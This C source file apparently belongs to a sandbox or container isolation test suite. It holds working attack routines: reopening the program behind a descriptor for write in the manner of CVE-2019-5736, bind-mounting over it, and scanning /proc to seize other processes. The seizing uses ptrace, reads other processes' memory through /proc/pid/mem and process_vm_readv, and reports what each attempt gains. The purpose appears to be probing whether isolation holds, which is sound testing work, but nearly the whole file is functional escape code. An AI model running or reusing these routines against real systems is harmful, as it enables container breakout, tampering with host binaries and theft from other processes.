/* Descriptors, programs of other processes, and what can be had of them. */
#include "probe.h"

#include <dirent.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>

/* Every descriptor, with what it is. */
int attack_descriptors(int argc, char **argv)
{
    (void)argc, (void)argv;
    for (int fd = 0; fd < 4096; fd++) {
        char path[64], target[512];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t size = readlink(path, target, sizeof target - 1);
        if (size < 0)
            continue;
        target[size] = 0;
        printf("fd-%d %s\n", fd, target);
    }
    char here[4096];
    if (syscall(SYS_getcwd, here, sizeof here) < 0)
        strcpy(here, error_name(errno));
    printf("cwd %s\n", here);
    struct stat parent, root;
    tell("above-the-root", chdir("/..") == 0 && stat(".", &parent) == 0 && stat("/", &root) == 0
                                   && (parent.st_ino != root.st_ino || parent.st_dev != root.st_dev)
                               ? 0
                               : (errno = ENOENT, -1));
    return 0;
}

/* Gain write access to the program behind descriptor argv[1] or path argv[1]: CVE-2019-5736. */
int attack_reopen(int argc, char **argv)
{
    char path[64];
    struct stat status;
    if (argc < 2)
        return 2;
    int fd = argv[1][0] == '/' ? open(argv[1], O_PATH | O_CLOEXEC) : atoi(argv[1]);
    tell("held", fstat(fd, &status));
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    char target[512] = "";
    ssize_t size = readlink(path, target, sizeof target - 1);
    printf("target %s\n", size < 0 ? error_name(errno) : target);
    tell("write", open(path, O_WRONLY | O_CLOEXEC));
    tell("read-write", open(path, O_RDWR | O_CLOEXEC));
    tell("append", open(path, O_WRONLY | O_APPEND | O_CLOEXEC));
    tell("chmod", chmod(path, status.st_mode & 07777));
    tell("chown", chown(path, status.st_uid, status.st_gid));
    tell("xattr", setxattr(path, "user.attack", "x", 1, 0));
    tell("utime", utimensat(AT_FDCWD, path, NULL, 0));
    tell("bind-over", mount("/proc/self/exe", path, NULL, MS_BIND, NULL));
    return 0;
}

static int attempts, gained;

static void gain(const char *what, const char *name, const char *detail)
{
    gained++;
    if (gained < 20)
        printf("gained-%s-%s %s\n", what, name, detail);
}

static const char marker[] = "this process has become the probe";

/* Whether the memory of process NAME behind a descriptor is that of a probe, which is a payload like this one and may
 * be had, or of nobody any more.  The descriptor stays with the memory it was opened for, whatever is executed after. */
static int is_probe(const char *name, int memory)
{
    char there[sizeof marker], path[300], line[600];
    ssize_t size = -1;
    time_t end = time(NULL) + 3;
    while ((size = pread(memory, there, sizeof there, (off_t)(unsigned long)marker)) < 0 && time(NULL) < end) {
        /* In the middle of execve(2) the new memory is empty for a moment; an interpreter's is not. */
        snprintf(path, sizeof path, "/proc/%s/maps", name);
        FILE *maps = fopen(path, "re");
        int foreign = 0;
        while (maps && fgets(line, sizeof line, maps))
            foreign |= strstr(line, "/usr/") != NULL || strstr(line, "/lib") != NULL;
        if (maps)
            fclose(maps);
        if (foreign)
            return 0;
        sched_yield();
    }
    return size == 0 || (size == sizeof there && memcmp(there, marker, sizeof there) == 0);
}

/* Whether process NAME has executed a program of the image. */
static int is_payload(const char *name)
{
    char path[300], program[256];
    snprintf(path, sizeof path, "/proc/%s/exe", name);
    ssize_t size = readlink(path, program, sizeof program);
    return size > 5 && strncmp(program, "/bin/", 5) == 0;
}

/* Everything one process of another may be made to give up. */
static void rob(const char *name, int self)
{
    char path[600], buffer[256];
    int pid = atoi(name);
    if (pid == self)
        return;
    attempts++;
    snprintf(path, sizeof path, "/proc/%s/exe", name);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        if (!is_payload(name))
            gain("exe", name, path);
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%s/fd", name);
    DIR *fds = opendir(path);
    for (struct dirent *entry; fds && (entry = readdir(fds));) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", name, entry->d_name);
        ssize_t size = readlink(path, buffer, sizeof buffer - 1);
        buffer[size < 0 ? 0 : size] = 0;
        /* What counts is a directory or file of another tree; pipes and the null device are the payload's own. */
        if (size > 0 && buffer[0] == '/' && strncmp(buffer, "/dev/", 5) != 0 && !is_payload(name))
            gain("fd", name, buffer);
    }
    if (fds)
        closedir(fds);
    int seized = ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0;
    snprintf(path, sizeof path, "/proc/%s/mem", name);
    fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        if (!is_probe(name, fd))
            gain(seized ? "ptrace" : "mem", name, path);
        close(fd);
    }
    if (seized)
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    struct iovec to = {buffer, sizeof marker}, from = {(void *)marker, sizeof marker};
    if (process_vm_readv(pid, &to, 1, &from, 1, 0) > 0 && memcmp(buffer, marker, sizeof marker) != 0)
        gain("vm", name, "read");
}

/* For argv[1] seconds: take what can be taken of every process in sight.  What has become a program of the
 * image is a payload like this one, and not what is hunted. */
int attack_processes(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
    int self = getpid();
    printf("hunting now\n");
    fflush(stdout);
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && !is_payload(entry->d_name))
                rob(entry->d_name, self);
        }
        if (proc)
            closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
    printf("attempts %d\ngained %d\n", attempts, gained);
    return 0;
}
